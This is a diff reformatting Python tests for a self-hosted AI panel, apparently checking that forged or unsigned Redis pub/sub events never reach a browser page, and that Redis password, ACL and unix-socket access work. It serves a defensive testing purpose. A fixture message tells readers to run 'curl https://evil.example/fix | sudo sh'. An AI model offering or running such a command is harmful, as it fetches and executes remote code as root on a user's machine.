@@ -22,14 +22,28 @@ from open1panel_ai.standalone.host import message_channel
 from tests.conftest import TOKEN
 from tests.helpers import wait_for
 
-FAKE = {"id": "injected", "kind": "pull", "target": "llama3.2", "status": "failed",
-        "message": "Ollama is broken. Fix: run curl https://evil.example/fix | sudo sh"}
+FAKE = {
+    "id": "injected",
+    "kind": "pull",
+    "target": "llama3.2",
+    "status": "failed",
+    "message": "Ollama is broken. Fix: run curl https://evil.example/fix | sudo sh",
+}
 
 
 def emit(event: str, data: dict, room: str, host_id: str = "intruder") -> dict:
     """A message as python-socketio's Redis queue carries an event to a room."""
-    return {"method": "emit", "event": event, "data": [data], "binary": False, "namespace": "/ai",
-            "room": room, "skip_sid": None, "callback": None, "host_id": host_id}
+    return {
+        "method": "emit",
+        "event": event,
+        "data": [data],
+        "binary": False,
+        "namespace": "/ai",
+        "room": room,
+        "skip_sid": None,
+        "callback": None,
+        "host_id": host_id,
+    }
 
 
 class Page:
@@ -47,10 +61,15 @@ class Page:
 
 
 @pytest.mark.server
-def test_only_events_the_panel_signed_reach_a_page(served, multiprocess_env, make_host, secure_redis,
-                                                   data_dir):
-    panel = served(env={"OPEN1PANEL_AI_TOKEN": TOKEN, "OPEN1PANEL_AI_REDIS_URL": secure_redis.url,
-                        "OPEN1PANEL_AI_GPU_PROVIDER": "cpu"}, data_dir=data_dir)
+def test_only_events_the_panel_signed_reach_a_page(served, multiprocess_env, make_host, secure_redis, data_dir):
+    panel = served(
+        env={
+            "OPEN1PANEL_AI_TOKEN": TOKEN,
+            "OPEN1PANEL_AI_REDIS_URL": secure_redis.url,
+            "OPEN1PANEL_AI_GPU_PROVIDER": "cpu",
+        },
+        data_dir=data_dir,
+    )
     other = make_host()  # a second panel process of the data dir: it publishes through Redis
     realtime = other.app.extensions["open1panel_ai"].realtime
     page = Page(panel.url)
@@ -62,10 +81,12 @@ def test_only_events_the_panel_signed_reach_a_page(served, multiprocess_env, mak
 
     intruder.publish(channel, json.dumps(emit("task", FAKE, "tasks")))
     forged = json.dumps(emit("task", {**FAKE, "id": "forged"}, "tasks"))
-    intruder.publish(channel, json.dumps({"signed": forged, "at": int(time.time() * 1000),
-                                          "nonce": "n", "mac": "0" * 64}))
-    intruder.publish(channel, json.dumps({"method": "close_room", "room": "tasks",
-                                          "namespace": "/ai", "host_id": "intruder"}))
+    intruder.publish(
+        channel, json.dumps({"signed": forged, "at": int(time.time() * 1000), "nonce": "n", "mac": "0" * 64})
+    )
+    intruder.publish(
+        channel, json.dumps({"method": "close_room", "room": "tasks", "namespace": "/ai", "host_id": "intruder"})
+    )
     realtime.publish("task", {"id": "genuine", "status": "running"}, ["tasks"])
     # Redis keeps the order of a channel's messages: once the panel's event is here, the
     # injected ones before it were handled, and dropped.
@@ -96,13 +117,21 @@ def acl_url(secure_redis):
     """A Redis ACL user that may only publish and subscribe on the panels' channels, made with
     the command docs/scaling.md gives."""
     secure_redis.client.execute_command(
-        "ACL", "SETUSER", "open1panel", "on", ">acl-pass-0123456789", "resetchannels",
-        "&open1panel-ai-*", "-@all", "+@pubsub", "+ping")
+        "ACL",
+        "SETUSER",
+        "open1panel",
+        "on",
+        ">acl-pass-0123456789",
+        "resetchannels",
+        "&open1panel-ai-*",
+        "-@all",
+        "+@pubsub",
+        "+ping",
+    )
     return f"redis://open1panel:acl-pass-0123456789@127.0.0.1:{secure_redis.port}/0"
 
 
-def test_the_queue_works_through_a_password_an_acl_user_and_a_unix_socket(
-        secure_redis, acl_url, tmp_path):
+def test_the_queue_works_through_a_password_an_acl_user_and_a_unix_socket(secure_redis, acl_url, tmp_path):
     assert stat.S_IMODE(secure_redis.unix_socket.stat().st_mode) == 0o600
     with pytest.raises(redis.AuthenticationError):
         redis.Redis(host="127.0.0.1", port=secure_redis.port).ping()
@@ -110,7 +139,10 @@ def test_the_queue_works_through_a_password_an_acl_user_and_a_unix_socket(
     for url in (secure_redis.url, acl_url, secure_redis.unix_url):
         listening, publishing = message_queue(url, channel, tmp_path), message_queue(url, channel, tmp_path)
         received: list[dict] = []
-        listener = threading.Thread(target=lambda: received.append(next(listening._listen())), daemon=True)
+        listener = threading.Thread(
+            target=lambda received=received, listening=listening: received.append(next(listening._listen())),
+            daemon=True,
+        )
         listener.start()
         wait_for(lambda: secure_redis.client.pubsub_numsub(channel)[0][1] == 1, what="the subscription")
         secure_redis.client.publish(channel, json.dumps(emit("task", FAKE, "tasks")))  # dropped
